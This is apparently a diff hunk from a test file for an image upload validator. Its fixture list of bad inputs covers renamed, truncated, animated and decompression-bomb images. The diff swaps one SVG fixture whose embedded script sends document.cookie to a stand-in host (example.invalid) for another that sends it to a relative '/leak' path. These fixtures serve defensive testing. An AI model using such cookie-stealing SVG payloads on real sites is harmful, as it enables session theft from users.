@@ -37,7 +37,7 @@ test('bad inputs each get a clear message in their own row; every other image is
     { name: 'notes.png', buffer: Buffer.from('Dear diary, this is a text file renamed .png') },
     { name: 'cut.png', buffer: good.subarray(0, good.length - 30) },
     { name: 'cut.jpg', buffer: jpg.subarray(0, Math.floor(jpg.length / 2)) },
-    { name: 'script.svg', buffer: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://example.invalid/"+document.cookie)</script></svg>') },
+    { name: 'script.svg', buffer: Buffer.from('<svg viewBox="0 0 1 1"><script>fetch("/leak?" + document.cookie)</script></svg>') },
     { name: 'animated.gif', buffer: Buffer.from('GIF89a\x02\x00\x02\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00', 'latin1') },
     { name: 'bomb.png', buffer: bomb() },
     { name: 'tiny-1x1.png', buffer: png(1, 1, 0) },
